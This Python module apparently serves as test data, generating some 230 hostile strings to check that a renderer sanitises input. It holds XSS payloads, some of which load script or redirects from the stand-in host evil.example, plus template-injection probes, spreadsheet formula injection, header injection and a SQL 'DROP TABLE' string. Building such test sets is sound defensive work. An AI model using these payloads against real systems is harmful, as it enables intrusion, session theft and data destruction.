"""Two hundred texts that were written to hurt a reader: each tries to become more than words on a page.

Sorted by what they attack. Scripts call alert(), which a browser cannot overlook.
"""

from itertools import product

_TAGS = (
    "<script>alert({n})</script>", "<script src=//evil.example/{n}.js></script>", "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>", "<svg><script>alert({n})</script></svg>", "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>", "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>", "<video><source onerror=alert({n})></video>",
    "<marquee onstart=alert({n})>x</marquee>", "<object data='javascript:alert({n})'></object>",
    "<embed src='javascript:alert({n})'>", "<form action='javascript:alert({n})'><button autofocus>x</button></form>",
    "<a href='javascript:alert({n})'>press</a>", "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<base href='//evil.example/{n}/'>", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style='position:fixed;inset:0;background:red'>{n}</p>", "<template><img src=x onerror=alert({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>", "<xmp><p title='</xmp><svg onload=alert({n})>'>",
)  # fmt: skip
# Out of where a text is put, and then a tag.
_WAYS_OUT = ("", "\">", "'>", "</title>", "</textarea>", "</script>", "-->")  # fmt: skip
_SCHEMES = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", " javascript:alert({n})", "java\tscript:alert({n})",
    "javascript&colon;alert({n})", "data:text/html,<script>alert({n})</script>", "vbscript:msgbox({n})",
    "blob:https://evil.example/{n}", "file:///etc/passwd", "//evil.example/{n}", "https:evil.example/{n}",
    "https://checks.example@evil.example/{n}", "https://evil.example/\" onmouseover=alert({n}) x=\"",
)  # fmt: skip
_MARKDOWN = (
    "[press](javascript:alert({n}))", "[press](<javascript:alert({n})>)", "![x](javascript:alert({n}))",
    "![x](x \"onerror=alert({n})\")", "[x]: javascript:alert({n})\n[press][x]", "<javascript:alert({n})>",
    "```\n</code></pre><script>alert({n})</script>\n```", "`</code><img src=x onerror=alert({n})>`",
    "[1](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[\"><img src=x onerror=alert({n})>](https://e.example)",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;img src=x onerror=alert({n})&#62;", "[2]({n})", "[1][1][1]",
)  # fmt: skip
_INSIDE_JSON = (
    "</script><script>alert({n})</script>", "\\u003c/script\\u003e\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "<!--<script>{n}", "]]><script>alert({n})</script>", "\"}};alert({n});{{\"a\":\"", "\\\";alert({n});//",
    "\u2028alert({n})\u2029", "</SCRIPT\t><svg/onload=alert({n})>", "<![CDATA[<script>alert({n})</script>]]>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{{n}*{n}}}}}",
    "{{% debug %}}",
    "${{alert({n})}}",
    "#{{alert({n})}}",
    "<%= {n}*{n} %>",
    "{{{{ settings.SECRET_KEY }}}}",
)
_TURNING = (
    "txet siht nrut \u202e{n}", "\u2066hidden\u2069{n}", "invisible\u200b{n}", "\ufeffmark{n}", "soft\u00adhyphen{n}",
    "bell\u0007{n}", "esc\u001b[31m{n}", "line\u2028{n}", "a" + "\u0301" * 40 + "{n}", "\U000e0041tag{n}",
)  # fmt: skip
_FORMULAS = (
    '=HYPERLINK("//evil.example/{n}")',
    "+{n}+cmd|' /C calc'!A0",
    "-{n}+1",
    "@SUM({n})",
    "\t={n}",
    '=1+{n}";="',
)
_HEADERS = (
    "x\r\nSet-Cookie: evil={n}",
    "x\nLocation: //evil.example/{n}",
    "%0d%0aSet-Cookie:evil={n}",
    "'; DROP TABLE claims_claim; -- {n}",
)


def _numbered() -> list[str]:
    tags = [way + tag for way, tag in product(_WAYS_OUT, _TAGS)]
    others = (*_SCHEMES, *_MARKDOWN, *_INSIDE_JSON, *_TEMPLATES, *_TURNING, *_FORMULAS, *_HEADERS)
    return [text.format(n=n) for n, text in enumerate([*tags, *others])]


TEXTS = _numbered()
ADDRESSES = [text for text in TEXTS if any(text == each.format(n=TEXTS.index(text)) for each in _SCHEMES)]
